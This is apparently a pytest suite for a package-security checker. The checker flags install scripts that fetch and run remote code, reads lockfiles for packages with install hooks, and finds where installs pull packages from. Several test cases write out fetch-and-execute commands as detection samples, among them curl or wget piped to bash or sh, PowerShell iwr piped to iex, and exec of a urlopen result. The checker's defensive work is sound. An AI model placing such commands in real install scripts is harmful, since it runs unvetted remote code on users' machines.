"""What runs while packages are installed, and where they come from, read from text of any kind."""

import json
from collections.abc import Callable
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checks.example import facts_of
from checks.fact import Unreadable
from checks.facts.packages import ignored_locks, install_scripts, install_sources
from checks.facts.packages.install_scripts import InstallScripts
from checks.facts.packages.install_sources import InstallSources
from checks.facts.packages.manifests import setup_files
from checks.facts.packages.manifests.pnpm_importers import wanted


def kinds(path: str, text: str) -> list[tuple[str, str]]:
    """Return the (kind, name) of the programs that installs take from *text*."""
    found = facts_of({path: text}).get(InstallScripts).value.by_path
    return [(one.kind, one.name) for one in found.get(path, ())]


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("curl -s https://x.example/a | bash", "remote"),
        ("wget -qO- https://x.example/a | sudo sh", "remote"),
        ("bash <(curl -s https://x.example/a)", "remote"),
        ('bash -c "$(curl -fsSL https://x.example/a)"', "remote"),
        ("curl -o a.sh https://x.example/a && sh a.sh", "remote"),
        ("node -e \"require('https').get('https://x.example', r => eval(r))\"", "remote"),
        ('powershell -c "iwr https://x.example | iex"', "remote"),
        ('node -e "console.log(1)"', "inline"),
        ("python3 -c 'print(1)'", "inline"),
        ("prisma generate", None),
        ("husky install && patch-package", None),
        ("node scripts/postinstall.js", None),
        ("curl https://x.example/health", None),
    ],
)
def test_a_script_is_judged_by_what_it_does_with_what_it_fetches(command: str, kind: str | None) -> None:
    """Fetched and run is one thing, code in the command another; the app's own programs are its own."""
    text = json.dumps({"scripts": {"postinstall": command, "build": "curl https://x.example | sh"}})
    assert kinds("package.json", text) == ([(kind, "postinstall")] if kind else [])


def test_packages_with_scripts_are_found_in_locks() -> None:
    """Npm marks them, older pnpm too, and bun and pnpm name those that may."""
    one = {"version": "1.0.0", "hasInstallScript": True}
    packages = {"node_modules/a": one, "node_modules/b": {"version": "1.0.0", "engines": {"node": "1"}}}
    npm = json.dumps({"packages": packages}, indent=2)
    assert kinds("package-lock.json", npm) == [("package", "a")]
    pnpm = "packages:\n\n  /a@1.0.0:\n    requiresBuild: true\n\n  '@s/b@1.0.0':\n    resolution: {}\n"
    assert kinds("pnpm-lock.yaml", pnpm) == [("package", "a")]
    named = json.dumps({"trustedDependencies": ["a", 1], "pnpm": {"onlyBuiltDependencies": ["@s/b"]}})
    assert kinds("package.json", named) == [("package", "a"), ("package", "@s/b")]


def test_what_setup_py_starts_is_found() -> None:
    """Programs, fetched code, and neither: reading one's own version file is not running a stranger's."""
    assert kinds("setup.py", "exec(open('version.py').read())\nsubprocess.check_output(['git', 'describe'])\n") == [
        ("program", "subprocess.check_output")
    ]
    assert kinds("setup.py", "exec(urlopen('https://x.example/a').read())\n") == [("remote", "exec")]


def test_places_to_install_from() -> None:
    """Each kind of file names them in its own way, and whether they are the only ones."""
    files = {
        "requirements.txt": "--extra-index-url https://u:p@a.example/simple\n",
        "b/pip.conf": "[global]\nindex-url = http://b.example/simple\n",
        "c/.npmrc": "@acme:registry=https://c.example\n//c.example/:_authToken=${T}\n",
        "d/pyproject.toml": '[[tool.poetry.source]]\nurl = "https://d.example/simple"\npriority = "explicit"\n',
    }
    found = facts_of(files).get(InstallSources).value
    told = {
        one.host: (one.only, one.named, one.plain, one.scope) for places in found.by_path.values() for one in places
    }
    assert told == {
        "a.example": (False, False, False, ""),
        "b.example": (True, False, True, ""),
        "c.example": (True, False, False, "@acme"),
        "d.example": (False, True, False, ""),
    }
    assert found.beside == {"requirements.txt"}


Read = Callable[[str, str], object]
OWN = ("package.json", "package-lock.json", "pnpm-lock.yaml", ".npmrc", "setup.py")
READERS: list[tuple[Read, str]] = [
    *((install_scripts.read, name) for name in OWN),
    *((install_sources.read, kind) for kind in ("requirements", "pyproject", ".npmrc", "pip.conf")),
    *((ignored_locks.read, kind) for kind in (".gitignore", ".npmrc")),
    *((setup_files.read, kind) for kind in ("setup.py", "setup.cfg")),
]
PIECES = st.sampled_from(
    [
        *("[[tool.uv.index]]", 'url = "https://x"', "setup(", "install_requires=[", "'a==1'", "[options]"),
        *("importers:", "dependencies:", "a:", "version: 1.0.0", '"scripts":', '"postinstall"', "curl", "| sh"),
        *("install_requires =", "requiresBuild: true", "--index-url", "@s:registry=", "node_modules/"),
        *("\n", "  ", "    ", ")", "]", "{", "}", ":", ",", "*", "!", "#", "\x00", "é"),
    ]
)


@pytest.mark.parametrize(("read", "kind"), READERS)
@given(text=st.lists(PIECES, max_size=60).map("".join) | st.text())
def test_no_text_ends_a_reader(read: Read, kind: str, text: str) -> None:
    """Whatever stands in a file, its reader answers, or says why it cannot."""
    with suppress(Unreadable):
        read(text, kind)
    list(wanted(text))


@pytest.mark.parametrize(("read", "kind"), READERS)
@pytest.mark.parametrize(
    "text", ["curl " * 200_000, "f(" * 300_000, " " * 1_000_000, "[" * 500_000, "a==1\n" * 100_000]
)
def test_long_text_takes_no_longer_than_it_is(read: Read, kind: str, text: str) -> None:
    """Lines of a megabyte and calls within calls are read once, not from each of their characters, or refused."""
    with suppress(Unreadable):
        read(text, kind)
